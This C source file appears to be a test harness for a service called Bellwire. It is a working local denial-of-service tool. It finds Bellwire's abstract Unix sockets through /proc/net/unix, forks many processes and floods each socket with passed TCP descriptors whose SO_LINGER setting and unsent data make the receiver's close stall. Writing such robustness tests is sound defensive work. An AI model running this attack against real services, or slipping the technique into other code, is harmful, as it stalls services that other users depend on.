/* SPDX-License-Identifier: MIT OR Apache-2.0
 * A user who makes others wait: lingerer LINGER.  It sends every abstract name of Bellwire's on
 * this host a TCP socket with unsent data that lingers LINGER seconds at its last close,
 * and closes its own copy, again and again until it is killed.  Each is sent by a process of
 * its own.  In every other round they are sent inside another socket's queue.  It prints `sent N`
 * after each round in which it sent some.  It uses nothing of Bellwire's. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what) {
    perror(what);
    exit(1);
}

/* So many sockets linger at a time. */
enum { CHILDREN = 64 };

/* How many went; shared by all processes, each of which adds to it once in its life. */
static _Atomic long *count;

/* A socket that lingers, whose peer stays open in *peer and reads nothing. */
static int lingering(int seconds, int *peer) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (listener < 0 || s < 0) die("socket");
    if (bind(listener, (struct sockaddr *)&address, length) || listen(listener, 1) || getsockname(listener, (struct sockaddr *)&address, &length)) die("listen");
    if (connect(s, (struct sockaddr *)&address, length)) die("connect");
    *peer = accept(listener, NULL, NULL);
    if (*peer < 0) die("accept");
    close(listener);
    struct linger linger = {1, seconds};
    if (setsockopt(s, SOL_SOCKET, SO_LINGER, &linger, sizeof linger)) die("SO_LINGER");
    static char data[1 << 16];
    while (send(s, data, sizeof data, MSG_DONTWAIT) > 0) {}
    return s;
}

static int give(int to, int descriptor) {
    char space[CMSG_SPACE(sizeof descriptor)] = {0};
    struct iovec bytes = {"nonsense", 8};
    struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    rights->cmsg_level = SOL_SOCKET;
    rights->cmsg_type = SCM_RIGHTS;
    rights->cmsg_len = CMSG_LEN(sizeof descriptor);
    memcpy(CMSG_DATA(rights), &descriptor, sizeof descriptor);
    return sendmsg(to, &message, MSG_DONTWAIT | MSG_NOSIGNAL) > 0;
}

/* Sends one to a name, and waits to be killed: its peer stays open, so its data stay unsent. */
static void attack(const char *name, int linger, int inside) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name);
    if (length >= sizeof address.sun_path) exit(0);
    memcpy(address.sun_path + 1, name, length);
    int to = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), peer = -1, sent = 0, pair[2];
    if (to < 0) die("socket");
    if (connect(to, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) == 0) {
        int s = lingering(linger, &peer);
        if (!inside) {
            sent = give(to, s);
        } else if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, pair) == 0) {
            sent = give(pair[0], s) && give(to, pair[1]);
            close(pair[1]);
            close(pair[0]);
        }
        if (sent) *count += 1;
        /* If the receiver has closed its copy by now, this one waits. */
        close(s);
        if (sent) pause();
    }
    exit(0);
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: lingerer LINGER\n");
        return 2;
    }
    pid_t children[CHILDREN] = {0};
    unsigned next = 0;
    count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (count == MAP_FAILED) die("mmap");
    for (unsigned round = 0;; round++) {
        FILE *names = fopen("/proc/net/unix", "r");
        char line[512], name[200];
        unsigned flags, type;
        long before = *count;
        if (!names) die("/proc/net/unix");
        while (fgets(line, sizeof line, names)) {
            if (sscanf(line, "%*s %*s %*s %x %x %*s %*s @%199s", &flags, &type, name) == 3 && (flags & 0x10000) && type == SOCK_SEQPACKET && strncmp(name, "bellwire", 8) == 0) {
                pid_t *child = &children[next++ % CHILDREN];
                if (*child > 0) {
                    kill(*child, SIGKILL);
                    waitpid(*child, NULL, 0);
                }
                *child = fork();
                if (*child == 0) {
                    /* It ends with this process. */
                    prctl(PR_SET_PDEATHSIG, SIGKILL);
                    attack(name, atoi(argv[1]), round % 2);
                }
            }
        }
        fclose(names);
        if (*count > before) {
            printf("sent %ld\n", *count);
            fflush(stdout);
        }
        usleep(2000);
    }
}
